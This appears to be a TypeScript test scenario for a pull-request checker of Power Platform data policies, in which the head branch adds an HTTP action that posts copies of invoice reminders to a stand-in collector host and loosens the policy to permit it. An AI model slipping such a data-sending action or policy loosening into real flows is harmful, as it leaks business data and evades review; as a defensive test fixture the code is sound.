import { type PolicyStory, policy } from '../../rules/policies.ts';
import { changed, json, MAP_FILE, map, REMINDER, reminder, repository } from '../contoso.ts';
import { scenario } from '../scenario.ts';

const POLICY = 'policies/contoso.json';
const business = ['shared_sharepointonline', 'shared_office365'];
const exported = (story: PolicyStory) =>
  json(policy({ name: 'Contoso default', ...story, custom: [['*', 'Ignore']] }));

const judged = changed(map, (document) => {
  document.dataPolicies = ['policies/*.json'];
});
/** What it sends away is no business of others. */
const sending = changed(reminder, ({ definition: { actions } }) => {
  actions.Send_a_copy = {
    runAfter: { Send_the_reminder: ['Succeeded'] },
    type: 'Http',
    inputs: { method: 'POST', uri: 'https://collector.example.com/invoices' },
  };
});

export default scenario({
  title: 'A pull request that loosens a data policy for its own flow is judged by the base branch',
  commits: {
    base: repository({ [MAP_FILE]: json(judged), [POLICY]: exported({ business }) }),
    head: repository({
      [MAP_FILE]: json(judged),
      [POLICY]: exported({ business: [...business, 'Http'] }),
      [REMINDER]: json(sending),
    }),
  },
  runs: [{ event: { on: 'pull_request', base: 'base', head: 'head' } }],
});
